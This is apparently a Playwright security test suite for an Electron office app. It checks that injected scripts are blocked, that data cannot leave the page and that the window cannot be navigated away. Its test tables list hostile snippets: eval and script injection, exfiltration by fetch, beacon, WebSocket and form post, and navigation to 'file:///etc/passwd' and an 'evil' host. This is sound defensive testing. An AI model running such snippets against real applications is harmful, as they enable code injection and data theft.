/*
 * Rules: SECURITY B1 (no Node in a page or worker), B3 (content security policy), B4 (no navigation), B6 (no network,
 * no permission) and C1 (only the contract is exposed), on the built app in its real window.
 * Threat: T3 and T5, a hostile document or a foreign script runs inside the page and reaches for the machine, the
 * network or another page.
 * Consequence: one parser bug and applications leave the office.
 */
import { randomUUID } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { _electron, type ElectronApplication, expect, type Page, test } from '@playwright/test';
import { contract } from '../../shared/contract/contract.ts';
import { appArguments } from '../../tools/app-arguments.ts';
import { root } from '../../tools/root.ts';
import { startCore } from '../integration/core-process.ts';

const PASSPHRASE = 'korrekt pferd batterie';
/** A page that says hello when it runs, as a document somebody uploaded. */
const HOSTILE_PAGE = '<!doctype html><script>parent.postMessage("document ran", "*")</script>';

let folder: string;
let app: ElectronApplication;
let page: Page;
let outside: Server;
let origin: string;
let connections: number;
let documentId: string;

/** An office with one case that holds a hostile paper, made through core's front door. */
const furnish = async (profileFolder: string, share: string): Promise<string> => {
  await Promise.all([mkdir(profileFolder), mkdir(share)]);
  const core = await startCore({ profileFolder });
  const must = async <T>(
    answer: Promise<{ ok: true; value: T } | { ok: false; error: { code: string } }>,
  ): Promise<T> => {
    const result = await answer;
    if (!result.ok) throw new Error(result.error.code);
    return result.value;
  };
  const secondCopyGrant = randomUUID();
  const office = { officeName: 'Kreis Musterland', land: 'NW' as const, accountName: 'anna', displayName: 'Anna' };
  const { recoveryCode } = await must(
    core.call(
      'administration',
      'createStore',
      { ...office, passphrase: PASSPHRASE, secondCopyGrant },
      { grants: { [secondCopyGrant]: share } },
    ),
  );
  await must(core.call('administration', 'confirmRecovery', { recoveryCode }));
  const { caseId } = await must(
    core.call('intake', 'createCase', {
      channel: 'post',
      receivedOn: '2026-02-03',
      familyName: 'Łukasz',
      givenNames: 'Ana',
      birthDate: '1990',
      birthPlace: 'Łódź',
      nationalities: ['152'],
      legalBasis: 'LB-10-1',
      groups: ['G-EMP'],
    }),
  );
  const bytes = new TextEncoder().encode(HOSTILE_PAGE);
  const added = await must(
    core.call('intake', 'addFiles', {
      caseId,
      channel: 'post',
      receivedOn: '2026-02-04',
      files: [{ name: 'Antrag.html', bytes }],
    }),
  );
  await core.stop();
  return added.documents[0]?.documentId ?? '';
};

test.beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'desk-window-'));
  documentId = await furnish(path.join(folder, 'profile'), path.join(folder, 'share'));
  outside = createServer((_request, answer) => answer.end('outside')).on('connection', () => {
    connections += 1;
  });
  connections = 0;
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const address = outside.address();
  if (address === null || typeof address === 'string') throw new Error('the server has no port');
  origin = `http://127.0.0.1:${address.port}`;
  app = await _electron.launch({ args: appArguments(path.join(folder, 'profile')), cwd: root });
  page = await app.firstWindow();
  await page.waitForFunction(() => document.querySelector('input') !== null);
  await page.evaluate(() => {
    const reported: string[] = [];
    Object.assign(window, { reported, mark: 'still here' });
    document.addEventListener('securitypolicyviolation', (event) => reported.push(event.effectiveDirective));
    window.addEventListener('message', (event) => reported.push(String(event.data)));
  });
});

test.afterAll(async () => {
  await app?.close();
  outside?.closeAllConnections();
  outside?.close();
  await rm(folder, { recursive: true, force: true, maxRetries: 5 });
});

/** Where the window stands, asked in the main process, and whether its scripts are the same as before. */
const whereabouts = async (): Promise<unknown[]> => [
  await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().map((one) => one.webContents.getURL())),
  await page.evaluate(() => Reflect.get(window, 'mark')),
];

/** Runs code in the page as a script of the page would: a call of the debugger may do what a script may not. */
const inPage = (code: string): Promise<unknown> =>
  page.evaluate(
    async ([text = '', out = '']) => {
      const build = new Function('out', `return (async () => { ${text} })()`) as (out: string) => Promise<unknown>;
      await new Promise((resolve) => setTimeout(resolve, 0));
      return build(out).then(
        (value) => value,
        (error: unknown) => `refused: ${error instanceof Error ? error.name : String(error)}`,
      );
    },
    [code, origin],
  );

const reported = async (): Promise<string[]> => {
  // Reports and network errors come after the attempt; two frames and a turn of the event loop later they are there.
  await page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 50)))),
  );
  return page.evaluate(() => Reflect.get(window, 'reported').splice(0));
};

test('a page sees nothing of Node and nothing of us but the contract', async () => {
  const names = [
    'require',
    'process',
    'module',
    'exports',
    'Buffer',
    'global',
    'setImmediate',
    '__dirname',
    'electron',
  ];
  expect(await page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([]);
  const exposed = await page.evaluate(() =>
    Object.fromEntries(
      Object.entries(Reflect.get(window, 'desk')).map(([name, value]) => [
        name,
        typeof value === 'function' ? 'function' : Object.keys(value as object).sort(),
      ]),
    ),
  );
  const expected = Object.entries(contract).map(([module, calls]) => [module, Object.keys(calls).sort()]);
  expect(exposed).toEqual({ ...Object.fromEntries(expected), onAnnouncement: 'function' });
  // Nothing exposed can be exchanged for something that listens in.
  expect(
    await inPage(
      "'use strict'; const old = desk.cases.get; try { desk.cases.get = () => 1; } catch {} try { window.desk = {}; } catch {} return desk.cases.get === old || 'exchanged';",
    ),
  ).toBe(true);
});

test('a worker sees nothing of Node either', async () => {
  const [workerUrl] = await page.evaluate(async () => {
    const text = await (await fetch('/')).text();
    const script = /src="([^"]*index-[^"]+\.js)"/.exec(text)?.[1] ?? '';
    const graph = [await (await fetch(script)).text()];
    for (const name of graph[0]?.match(/[\w-]+\.js/g) ?? []) graph.push(await (await fetch(`/assets/${name}`)).text());
    return /pdf\.worker[\w.-]+\.mjs/.exec(graph.join('\n')) ?? [''];
  });
  const started = page.waitForEvent('worker');
  await page.evaluate((name) => {
    const policy = window.trustedTypes?.createPolicy('einbuergerungsdesk', { createScriptURL: (url) => url });
    // TypeScript's Worker takes a text; the trusted address passes through unchanged.
    const url = policy?.createScriptURL(`/assets/${name}`) as string;
    Object.assign(window, { testWorker: new Worker(url, { type: 'module' }) });
  }, workerUrl);
  const worker = await started;
  const seen = await worker.evaluate(() => ['require', 'process', 'Buffer', 'desk'].filter((name) => name in self));
  expect(seen).toEqual([]);
  expect(
    await worker.evaluate(
      (out) =>
        fetch(out).then(
          () => 'reached',
          () => 'blocked',
        ),
      origin,
    ),
  ).toBe('blocked');
  await page.evaluate(() => Reflect.get(window, 'testWorker').terminate());
  expect(connections).toBe(0);
  await reported();
});

/** Each is something that injected code would try; the answer it must get, and what the policy reports. */
const INJECTIONS: readonly (readonly [what: string, code: string, directive: string])[] = [
  ['HTML as text', "document.body.innerHTML = '<img src=x>'", 'require-trusted-types-for'],
  [
    'a script element',
    "const s = document.createElement('script'); s.append('window.pwned = 1'); document.body.append(s); s.remove()",
    'require-trusted-types-for',
  ],
  [
    'a handler attribute',
    "document.body.setAttribute('onclick', 'window.pwned = 1'); document.body.click(); document.body.removeAttribute('onclick')",
    'require-trusted-types-for',
  ],
  ['eval', "eval('window.pwned = 1')", 'require-trusted-types-for'],
  ['new Function', "new Function('window.pwned = 1')()", 'require-trusted-types-for'],
  [
    'a timer with text',
    "setTimeout('window.pwned = 1', 0); await new Promise((done) => setTimeout(done, 20))",
    'require-trusted-types-for',
  ],
  ['a second policy of its own', "trustedTypes.createPolicy('mine', { createHTML: (html) => html })", 'trusted-types'],
  [
    'a style without nonce',
    "const s = document.createElement('style'); s.textContent = 'body{}'; document.head.append(s); s.remove()",
    'style-src-elem',
  ],
  [
    'a base element',
    "const b = document.createElement('base'); b.href = out; document.head.append(b); b.remove()",
    'base-uri',
  ],
  [
    'WebAssembly',
    'await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); window.pwned = 1',
    'script-src',
  ],
];

for (const [what, code, directive] of INJECTIONS) {
  test(`injected code gets nowhere with ${what}`, async () => {
    await reported();
    await inPage(code);
    expect(await reported()).toContain(directive);
    expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined();
  });
}

/** Ways to the outside. Each must leave the server without as much as a connection. */
const WAYS_OUT: readonly (readonly [what: string, code: string])[] = [
  ['fetch', 'await fetch(out)'],
  ['fetch without CORS', "await fetch(out, { mode: 'no-cors' })"],
  ['XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('GET', out); x.send()"],
  ['a beacon', "navigator.sendBeacon(out, 'data')"],
  ['a socket', "new WebSocket(out.replace('http', 'ws'))"],
  ['an event source', 'new EventSource(out)'],
  ['an image', "const i = new Image(); i.src = out + '/i.png'; document.body.append(i)"],
  [
    'a style sheet',
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = out; document.head.append(l)",
  ],
  ['a font', "await new FontFace('f', 'url(' + out + ')').load()"],
  ['a video', "const v = document.createElement('video'); v.src = out; document.body.append(v)"],
  ['a frame', "const f = document.createElement('iframe'); f.src = out; document.body.append(f)"],
  ['an object', "const o = document.createElement('object'); o.data = out; document.body.append(o)"],
  [
    'a form',
    "const f = document.createElement('form'); f.method = 'post'; f.action = out; document.body.append(f); f.submit()",
  ],
  ['a module', 'await import(out)'],
  ['a prefetch', "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = out; document.head.append(l)"],
  [
    'a ping',
    "const a = document.createElement('a'); a.href = out; a.ping = out + '/ping'; document.body.append(a); a.click()",
  ],
  ['a service worker', "await navigator.serviceWorker.register('/sw.js')"],
];

for (const [what, code] of WAYS_OUT) {
  test(`nothing leaves by ${what}`, async () => {
    const before = await whereabouts();
    await inPage(code);
    await reported();
    expect(connections).toBe(0);
    expect(await whereabouts()).toEqual(before);
  });
}

/** Ways to another page. */
const WAYS_AWAY: readonly (readonly [what: string, code: string])[] = [
  ['location', 'location.href = out'],
  ['location.replace', 'location.replace(out)'],
  ['a file address', "location.href = 'file:///etc/passwd'"],
  ['a script address', "location.href = 'javascript:window.pwned=1'"],
  ['a data address', "location.href = 'data:text/html,hello'"],
  ['another host of our scheme', "location.href = 'app://bundle.evil/'"],
  ['a link', "const a = document.createElement('a'); a.href = out; document.body.append(a); a.click()"],
  [
    'a link into a new window',
    "const a = document.createElement('a'); a.href = out; a.target = '_blank'; document.body.append(a); a.click()",
  ],
  ['window.open', 'return window.open(out) === null'],
  ['window.open of our own page', "return window.open('/') === null"],
  [
    'a refresh',
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + out; document.head.append(m)",
  ],
  [
    'a form to a new window',
    "const f = document.createElement('form'); f.action = out; f.target = '_blank'; document.body.append(f); f.submit()",
  ],
];

for (const [what, code] of WAYS_AWAY) {
  test(`the window stays where it is at ${what}`, async () => {
    const before = await whereabouts();
    // A page that is asked to go away may not answer the one who asked; the attempt counts, not its answer.
    await app.evaluate(
      ({ BrowserWindow }, [text = '', out = '']) =>
        BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
          `(async () => { const out = ${JSON.stringify(out)}; ${text} })().catch(() => undefined)`,
          true,
        ),
      [code, origin],
    );
    await reported();
    expect(await whereabouts()).toEqual(before);
    expect(app.windows()).toHaveLength(1);
    expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined();
    expect(connections).toBe(0);
  });
}

test('a file dropped on the window does not open in it', async () => {
  const file = path.join(folder, 'dropped.html');
  await writeFile(file, HOSTILE_PAGE);
  const before = await whereabouts();
  const session = await page.context().newCDPSession(page);
  const data = { items: [], files: [file], dragOperationsMask: 1 };
  for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
    await session.send('Input.dispatchDragEvent', { type, x: 200, y: 200, data });
  }
  await session.detach();
  expect(await reported()).not.toContain('document ran');
  expect(await whereabouts()).toEqual(before);
});

test('no permission is given but to write to the clipboard', async () => {
  const states = await page.evaluate(async () => {
    const names = [
      'geolocation',
      'notifications',
      'camera',
      'microphone',
      'clipboard-read',
      'midi',
      'persistent-storage',
    ];
    const asked = names.map(async (name) => [
      name,
      (await navigator.permissions.query({ name: name as PermissionName }).catch(() => ({ state: 'denied' }))).state,
    ]);
    return Object.fromEntries(await Promise.all(asked));
  });
  expect(Object.entries(states).filter(([, state]) => state === 'granted')).toEqual([]);
  const tried = await inPage(`
    const outcome = (promise) => Promise.race([
      promise.then(() => 'given', () => 'refused'), new Promise((done) => setTimeout(done, 500, 'no answer'))]);
    return [
      await outcome(navigator.mediaDevices?.getUserMedia({ audio: true }) ?? Promise.reject()),
      await outcome(navigator.mediaDevices?.getDisplayMedia() ?? Promise.reject()),
      await outcome(new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))),
      await outcome(navigator.clipboard.readText()),
      await outcome(navigator.usb?.requestDevice({ filters: [] }) ?? Promise.reject()),
    ];`);
  // Where a chooser would ask the person, it asks nobody: no answer is none.
  expect(tried).toHaveLength(5);
  expect(tried).not.toContain('given');
});

test('a stored paper is bytes to the viewer and nothing else', async () => {
  const address = `/document/${documentId}`;
  const status = () => page.evaluate(async (url) => (await fetch(url)).status, address);
  expect(await status(), 'before anybody signed in').toBe(404);
  await page.evaluate(async (passphrase) => {
    const desk = Reflect.get(window, 'desk');
    const answer = await desk.administration.signIn({ accountName: 'anna', passphrase });
    if (!answer.ok) throw new Error(answer.error.code);
  }, PASSPHRASE);
  const answer = await page.evaluate(async (url) => {
    const response = await fetch(url);
    return { status: response.status, text: await response.text(), headers: Object.fromEntries(response.headers) };
  }, address);
  expect(answer).toMatchObject({
    status: 200,
    text: HOSTILE_PAGE,
    headers: {
      'content-type': 'application/octet-stream',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
    },
  });
  await reported();
  const before = await whereabouts();
  for (const code of [
    `const f = document.createElement('iframe'); f.src = '${address}'; document.body.append(f); await new Promise((done) => setTimeout(done, 100)); f.remove()`,
    `const f = document.createElement('embed'); f.src = '${address}'; document.body.append(f); await new Promise((done) => setTimeout(done, 100)); f.remove()`,
    `const s = document.createElement('script'); s.src = '${address}'; document.body.append(s)`,
    `await import('${address}'); window.pwned = 1`,
    `new Worker('${address}'); window.pwned = 1`,
  ]) {
    await inPage(code);
  }
  await app.evaluate(
    ({ BrowserWindow }, url) =>
      BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(`location.href = '${url}'; 1`),
    address,
  );
  const reports = await reported();
  expect(reports).not.toContain('document ran');
  expect(reports).toContain('frame-src');
  expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined();
  expect(await whereabouts()).toEqual(before);
});

test('the server outside would have noticed', async () => {
  expect(connections).toBe(0);
  expect(await (await fetch(origin)).text()).toBe('outside');
  expect(connections).toBe(1);
});
